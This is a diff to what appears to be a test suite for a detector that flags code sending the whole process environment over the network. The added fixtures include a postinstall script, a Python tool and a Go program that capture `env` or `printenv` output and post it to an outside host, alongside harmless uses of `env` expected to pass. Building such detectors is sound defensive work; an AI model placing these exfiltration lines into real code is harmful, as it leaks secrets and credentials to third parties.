@@ -536,6 +536,15 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/run.py', ['child_env = dict(os.environ)', 'child_env["CI"] = "1"', 'subprocess.run(cmd, env=child_env, check=True)', 'a = 1', 'b = 2', 'c = 3', 'requests.post(RESULTS_URL, json={"code": 0})'])).toEqual([]);
   });
 
+  it('reads the environment listed by a child process (`env`, `printenv`) as taken whole; `env` running a command is not', () => {
+    const whole = 'The whole environment is sent over the network';
+    expect(sent('scripts/postinstall.js', ["const out = execSync('env').toString();", "const req = https.request({ hostname: 'ci-report.dev', path: '/r', method: 'POST' });", 'req.write(out);'])).toEqual([['high', whole, 11]]);
+    expect(sent('tools/report.py', ['out = subprocess.check_output(["printenv"], text=True)', 'requests.post("https://ci-report.dev/r", data=out)'])).toEqual([['high', whole, 11]]);
+    expect(sent('tools/report/main.go', ['\tout, _ := exec.Command("env").Output()', '\thttp.Post("https://ci-report.dev/r", "text/plain", bytes.NewReader(out))'])).toEqual([['high', whole, 11]]);
+    expect(sent('scripts/run.js', ["execSync('env', ['CI=1', 'npm', 'test']);", "spawnSync('env', ['CI=1', 'npm', 'test']);", "await fetch('https://ci.acme.dev/done', { method: 'POST', body: '{}' });"])).toEqual([]);
+    expect(sent('tools/run.py', ['subprocess.run(["env", "CI=1", "pytest"], check=True)', 'requests.post("https://ci.acme.dev/done", json={})'])).toEqual([]);
+  });
+
   it('reports a destructure whose rest element takes the whole environment', () => {
     expect(sent('src/events.ts', ['const { NODE_ENV, ...rest } = process.env;', "await fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(rest) });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
   });
